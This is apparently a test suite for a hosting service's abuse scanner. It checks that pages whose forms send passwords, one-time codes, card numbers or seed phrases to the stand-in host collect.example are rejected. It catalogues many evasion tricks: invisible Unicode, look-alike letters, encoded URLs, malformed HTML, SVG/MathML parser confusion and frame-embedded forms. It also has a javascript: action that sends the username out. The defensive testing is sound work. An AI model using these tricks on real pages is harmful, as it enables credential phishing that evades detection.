/** PIPELINE 3 and RELIABILITY A19: what the abuse scan refuses, what it warns of, and what it must leave alone. */
import { describe, expect, test } from "bun:test";
import { judge, judgePage } from "../kit/abuse-site.ts";

const PASSWORD = `<input type="password" name="password">`;
const login = (action: string, field = PASSWORD) =>
  `<!doctype html><title>Sign in</title><form method="post" action="${action}"><input name="user">${field}<button>Sign in</button></form>`;
const EVIL = "https://collect.example/in.php";

describe("a form that asks for a secret and sends it to another domain is refused", () => {
  const field = (attributes: string, label = "") => login(EVIL, `${label}<input ${attributes}>`);
  test.each([
    ["a password by type", field(`type="password"`)],
    ["a password by type in capitals", field(`TYPE=PASSWORD`)],
    ["a password by type, named by an entity", field(`type="pass&#119;ord"`)],
    ["a password shown as dots", field(`type="text" style="-webkit-text-security: disc"`)],
    ["a password by autocomplete", field(`autocomplete="section-a current-password"`)],
    ["a password by name", field(`name="userPassword"`)],
    ["a password by id", field(`id="login_passwd"`)],
    ["a password by the name pass", field(`name="pass"`)],
    ["a password by a name in one word", field(`name="loginpassword"`)],
    ["a password by another name in one word", field(`id="mypassword"`)],
    ["a password by a French name", field(`name="motdepasse"`)],
    ["a password by a Spanish name", field(`name="contrasena"`)],
    ["a password by placeholder", field(`placeholder="Your password"`)],
    ["a password by a label around it", login(EVIL, `<label>Password <input name="x"></label>`)],
    ["a password by a label for it", login(EVIL, `<label for="x1">Pass&shy;word</label><input id="x1">`)],
    ["a password by aria-label", field(`aria-label="Passwort"`)],
    ["a password behind an emoji with its selector", field(`placeholder="\u{1f512}\ufe0fPassword"`)],
    ["a password in letters that look Latin", field(`placeholder="Pаsswоrd"`)],
    ["a one-time code by autocomplete", field(`autocomplete="one-time-code"`)],
    ["a one-time code by name", field(`name="otp"`)],
    ["a one-time code by label", login(EVIL, `<label>Enter the verification code<input></label>`)],
    ["a card number by autocomplete", field(`autocomplete="cc-number"`)],
    ["a card number by name", field(`name="cardNumber"`)],
    ["a card number by placeholder", field(`placeholder="Card number"`)],
    ["a CVV", field(`name="cvv2"`)],
    ["a CVC", field(`placeholder="CVC"`)],
    [
      "a seed phrase in a text area",
      login(EVIL, `<textarea placeholder="Enter your 12-word recovery phrase"></textarea>`),
    ],
    ["a seed phrase by name", field(`name="seed_phrase"`)],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("abuse_rejected"));

  test.each(
    [0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200d, 0x200e, 0x2028, 0x202e, 0x2062, 0x3164, 0xfe0f, 0xfeff, 0xffa0]
      .concat([0xfff9, 0xe0020, 0xe0061])
      .map((code) => [code.toString(16).toUpperCase().padStart(4, "0"), String.fromCodePoint(code)]),
  )("a password with U+%s in it, which shows nothing", (_, hidden) => {
    expect(judgePage(field(`placeholder="Pass${hidden}word"`))).toBe("abuse_rejected");
    expect(judgePage(field(`name="user${hidden}_pa${hidden}ssword${hidden}"`))).toBe("abuse_rejected");
    expect(judgePage(login(EVIL, `<label>Your ${hidden}pass${hidden}${hidden}word <input></label>`))).toBe(
      "abuse_rejected",
    );
  });
});

describe("where a form sends is resolved as a browser would", () => {
  test.each([
    ["an absolute address", login(EVIL)],
    ["another scheme in capitals", login("HTTPS://COLLECT.example/")],
    ["protocol-relative", login("//collect.example/in")],
    ["backslashes", login("\\\\collect.example\\in")],
    ["slash and backslash", login("/\\collect.example/in")],
    ["a scheme without slashes", login("https:collect.example/in")],
    ["the other scheme without slashes", login("http:collect.example/in")],
    ["a scheme without slashes, with a tab in it", login("ht\ttp:/collect.example/in")],
    ["too many slashes", login("https:////collect.example/in")],
    ["white space around", login("  \n https://collect.example/ ")],
    ["line breaks and tabs inside", login("ht\ntps:/\t/collect.exam\nple/")],
    ["control characters before", login("\u0001\u001fhttps://collect.example/")],
    ["entities", login("https&colon;&sol;&sol;collect&period;example&sol;")],
    ["numbered entities without semicolon", login("&#104ttps://collect.example/")],
    ["tab entities", login("ht&Tab;tps://collect.example/&NewLine;")],
    ["an entity in the place of a slash", login("/&#47;collect.example")],
    ["a user name that looks like the site", login("https://index.html@collect.example/")],
    ["a number as an address", login("http://3221226219/")],
    ["an address in IPv6", login("http://[2001:db8::1]/")],
    ["what no parser reads", login("https://col lect.example/")],
    ["ftp", login("ftp://collect.example/")],
    ["<base> and a relative action", `<base href="${EVIL}">${login("in.php")}`],
    ["<base> and #", `<base href="${EVIL}">${login("#")}`],
    ["<base> after the form", `${login("in.php")}<base href="//collect.example">`],
    ["a <base> without href first", `<base target="_self"><base href="${EVIL}">${login("x")}`],
    ["a <base> in a drawing first", `<svg><base href="/"/></svg><base href="${EVIL}">${login("x")}`],
    ["another site of this service", login("https://calm-otter-x3k9.sites.example/in")],
    [
      "javascript: that assigns a location",
      login("javascript:location='https://collect.example/?'+document.forms[0].user.value"),
    ],
    ["javascript: in pieces", login("java&Tab;script&colon;window.location.href=%22//collect.example/%22")],
    ["javascript: with an address nobody can tell", login("javascript:location=atob(this.x)")],
    ["formaction of a button", `<form action="/ok">${PASSWORD}<button formaction="${EVIL}">Go</button></form>`],
    ["formaction of a submit input", `<form>${PASSWORD}<input type="submit" formaction="${EVIL}"></form>`],
    ["formaction of an image", `<form>${PASSWORD}<input type="image" src="x.png" formaction="${EVIL}"></form>`],
    ["a field outside by form=", `<form id="f" action="${EVIL}"></form><input form="f" type="password">`],
    [
      "a field inside another form by form=",
      `<form id="f" action="${EVIL}"></form><form action="/x"><input form=f type=password></form>`,
    ],
    ["a button outside by form=", `<form id="f">${PASSWORD}</form><button form="f" formaction="${EVIL}">Go</button>`],
    ["a form without end", `<form action="${EVIL}"><p>${PASSWORD}`],
    ["a form across elements that close it not", `<div><form action="${EVIL}"></div><table><tr><td>${PASSWORD}`],
    ["a form in a form that has ended", `<form action="/ok"><div></form><form action="${EVIL}">${PASSWORD}`],
    [
      "a form behind one that a select swallows",
      `<select><form action="/ok"></select><form action="${EVIL}">${PASSWORD}`,
    ],
    ["a form in a form of a template", `<template><form action="/ok"><form action="${EVIL}">${PASSWORD}</template>`],
    ["the first of two bases", `<base href="${EVIL}"><base href="/ok/">${login("in.php")}`],
    [
      "a base that a table puts before itself",
      `<table><td><base href="/"></td><base href="${EVIL}"></table>${login("x")}`,
    ],
    ["a form after one that never ended", `<form action="${EVIL}"><form action="/ok">${PASSWORD}</form>`],
    [
      "a template's end tag for the form outside",
      `<form action="${EVIL}"><template></form></template>${PASSWORD}</form>`,
    ],
    ["an end tag that leaves a form's element open", `<form action="${EVIL}"><div></form>${PASSWORD}`],
    ["an end tag in an object", `<form action="${EVIL}"><object></form></div>${PASSWORD}`],
    ["an end tag under bold text", `<form action="${EVIL}"><b><div></b></form>${PASSWORD}`],
    ["for those without scripts", `<noscript><form action="${EVIL}">${PASSWORD}</form></noscript>`],
    ["in a template", `<template><form action="${EVIL}">${PASSWORD}</form></template>`],
    ["in a frame's srcdoc", `<iframe srcdoc="&lt;form action='${EVIL}'&gt;&lt;input type=password&gt;"></iframe>`],
    ["in a frame's data:", `<iframe src="data:text/html,<form action='${EVIL}'><input type=password>"></iframe>`],
    ["in a frame's data: in Base64", `<embed src="data:text/html;base64,${btoa(login(EVIL))}">`],
    [
      "a srcdoc under a foreign base",
      `<base href="${EVIL}"><iframe srcdoc="<form action=x><input type=password>"></iframe>`,
    ],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("abuse_rejected"));
});

describe("broken markup hides no form", () => {
  const form = `<form action="${EVIL}">${PASSWORD}</form>`;
  const open = `<form action="${EVIL}">`;
  test.each([
    ["an attribute that begins with =", `<a ="x>${form}`],
    ["a quote in an unquoted value", `<a x=y="z>${form}`],
    ["a quote after white space", `<a x =\n"y">${form}`],
    ["an attribute twice", `<form action="${EVIL}" action="/ok">${PASSWORD}</form>`],
    ["a name with a hard space in it", `<form x\u00a0action="/ok" action="${EVIL}">${PASSWORD}</form>`],
    ["a slash between attributes", `<form/action="${EVIL}"/><input/type="password">`],
    ["a comment that ends with --!>", `<!-- --!>${form}`],
    ["a comment that is none", `<!-->${form}<!-- -->`],
    ["a comment of three dashes", `<!--->${form}<!-- -->`],
    ["a comment in an end tag", `</ --${">"}${form}`],
    ["a script with a script in its comment", `<script><!-- <script></script> <textarea> </script>${form}`],
    ["a style in a drawing whose slash is a value's", `<svg x=a/><style><p>${form}</style></svg>`],
    ["a style in a drawing whose slash is a value", `<svg x= /><style><p>${form}</style></svg>`],
    ["a style in a drawing, ended by no slash", `<svg / ><style><p>${form}</style></svg>`],
    ["a style in a drawing", `<svg><style><p>${form}</style></svg>`],
    ["a title in a drawing", `<svg><title>${form}</title></svg>`],
    ["a text area in a drawing", `<svg><textarea><div>${form}`],
    ["a script in a drawing", `<svg><script><p>${form}</script></svg>`],
    ["a CDATA section in a drawing", `<svg><![CDATA[ > <!-- ]]></svg>${form}`],
    ["a drawing's form that takes no place", `<svg><form action="/ok"></svg>${form}`],
    ["a drawing's template, which holds nothing back", `${open}<svg><template></svg>${PASSWORD}`],
    ["a drawing's template that a paragraph leaves", `${open}<svg><template><p>${PASSWORD}`],
    ["a formula's template", `${open}<math><template></math>${PASSWORD}`],
    ["a drawing's template that an end tag leaves", `${open}<div><svg><template></div>${PASSWORD}`],
    ["a drawing's template in a template", `${open}<template><svg><template></svg></template>${PASSWORD}`],
    [
      "a template that a drawing's end tag does not end",
      `${open}<template><svg><template></template></svg></form></template>${PASSWORD}`,
    ],
    ["a drawing's form and its end", `${open}<svg><form></form></svg>${PASSWORD}`],
    ["HTML in a drawing", `<svg><foreignObject>${form}</foreignObject></svg>`],
    ["a drawing that an end tag leaves", `<div><svg><g></div><style><!--</style>${form}`],
    ["HTML in a drawing that is not closed", `<svg><foreignObject><div></foreignObject><style><!--</style>${form}`],
    ["MathML", `<math><mtext><style></math><mi></style></mtext></math>${form}`],
    ["an annotation that is none in SVG", `<svg><annotation-xml encoding="text/html"><noframes></svg>${form}`],
    ["a description that is none in MathML", `<math><desc><style><p>${form}</style>`],
    ["NUL characters before the tag", `\0\0${form}`],
    ["a label that is never closed", `<form action="${EVIL}"><label>Password<input name=x>`],
  ])("%s", (_, html) => expect(judgePage(html)).toBe("abuse_rejected"));
});

describe("every file that a browser shows as a page is read, in every encoding", () => {
  const html = login(EVIL);
  const utf16 = (text: string, mark = "\ufeff") => new Uint8Array(Buffer.from(mark + text, "utf16le"));
  const xhtml = (body: string, head = "") =>
    `<?xml version="1.0"?>${head}<html xmlns="http://www.w3.org/1999/xhtml" xmlns:h="http://www.w3.org/1999/xhtml">${body}</html>`;
  const xmlForm = `<form action="${EVIL}"><input type="password"/></form>`;
  test.each([
    ["UTF-16 with a mark", "a.html", utf16(html)],
    ["big-endian UTF-16 with a mark", "a.html", new Uint8Array(Buffer.from(utf16(html)).swap16())],
    ["UTF-8 with a mark", "a.html", `\ufeff${html}`],
    [
      "an encoding that hides ASCII",
      "a.html",
      new Uint8Array(Buffer.from(`<!-- <meta charset=iso-2022-jp> -->\x1b$B\xff${html}`, "latin1")),
    ],
    ["Windows-1252", "a.html", new Uint8Array(Buffer.from(`\xe9${html}`, "latin1"))],
    [".htm", "docs/a.htm", html],
    [".shtml", "a.shtml", html],
    ["capitals", "A.HTML", html],
    [".xhtml", "a.xhtml", xhtml(xmlForm)],
    [".xhtml with prefixes", "a.xhtml", xhtml(`<h:form action="${EVIL}"><h:input type="password"/></h:form>`)],
    [".xhtml in UTF-16 without a mark", "a.xhtml", utf16(xhtml(`é${xmlForm}`), "")],
    [".xhtml with a form in a style", "a.xhtml", xhtml(`<style>${xmlForm}</style>`)],
    [
      ".xhtml with an entity for the address",
      "a.xhtml",
      xhtml(`<form action="&e;"><input type="password"/></form>`, `<!DOCTYPE html [<!ENTITY e "${EVIL}">]>`),
    ],
    [
      ".xhtml with an entity for the form",
      "a.xhtml",
      xhtml("&f;", `<!DOCTYPE html [<!-- it's --><!ENTITY f '${xmlForm.replaceAll("<", "&#60;")}'>]>`),
    ],
    [".xhtml with an instruction that looks like a comment", "a.xhtml", xhtml(`<?x > <!-- ?>${xmlForm}<!-- -->`)],
    [
      ".svg",
      "a.svg",
      `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="${EVIL}"><input type="password"/></form></foreignObject></svg>`,
    ],
    [".xml", "feed.xml", xhtml(xmlForm)],
    ["a drawing in a folder", "img/logo.SVG", xhtml(xmlForm)],
  ])("%s", (_, path, source) => expect(judge({ [path]: source })).toBe("abuse_rejected"));
});

describe("a site's own names are its own", () => {
  const own = { slug: "calm-otter-x3k9" };
  test.each([
    ["its host", "https://calm-otter-x3k9.sites.example/login", own, "pass"],
    ["its host by http, with a port and a dot", "http://CALM-otter-x3k9.sites.example.:8080/login", own, "pass"],
    ["one of its versions", "https://0123456789abcdef--calm-otter-x3k9.sites.example/", own, "pass"],
    ["a sibling", "https://red-fox-1234.sites.example/", own, "abuse_rejected"],
    ["a name below its own", "https://x.calm-otter-x3k9.sites.example/", own, "abuse_rejected"],
    ["a name that ends like its own", "https://evilcalm-otter-x3k9.sites.example/", own, "abuse_rejected"],
    ["its slug elsewhere", "https://calm-otter-x3k9.sites.example.evil.example/", own, "abuse_rejected"],
    ["any name, as long as the site has none", "https://calm-otter-x3k9.sites.example/login", {}, "abuse_rejected"],
  ])("%s", (_, action, site, verdict) => expect(judgePage(login(action), site)).toBe(verdict));
});
